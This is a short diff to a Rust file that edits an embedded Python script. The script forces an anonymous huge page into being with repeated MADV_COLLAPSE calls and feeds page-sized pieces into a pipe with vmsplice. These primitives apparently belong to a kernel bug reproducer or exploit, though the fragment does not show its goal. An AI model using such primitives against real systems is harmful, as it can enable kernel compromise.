@@ -18,7 +18,12 @@ const HIDE: &str = "import fcntl\n\
     def huge():\n\
     \x20   area = mmap.mmap(-1, 2 * HUGE, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)\n\
     \x20   at = ctypes.addressof(ctypes.c_char.from_buffer(area)); at += -at % HUGE\n\
-    \x20   area.madvise(mmap.MADV_HUGEPAGE); ctypes.memset(at, 1, HUGE); return area, at\n\
+    \x20   area.madvise(mmap.MADV_HUGEPAGE); ctypes.memset(at, 1, HUGE)\n\
+    \x20   for _ in range(50):\n\
+    \x20       # MADV_COLLAPSE: where there was no block for a huge page, it is made one now.\n\
+    \x20       if not libc.madvise(ctypes.c_void_p(at), ctypes.c_size_t(HUGE), 25): return area, at\n\
+    \x20       time.sleep(0.1)\n\
+    \x20   raise OSError(ctypes.get_errno())\n\
     def lay(end, at, size=4096):\n\
     \x20   laid = libc.vmsplice(end, ctypes.byref(Piece(at, size)), ctypes.c_ulong(1), 0)\n\
     \x20   if laid != size: raise OSError(ctypes.get_errno())\n\
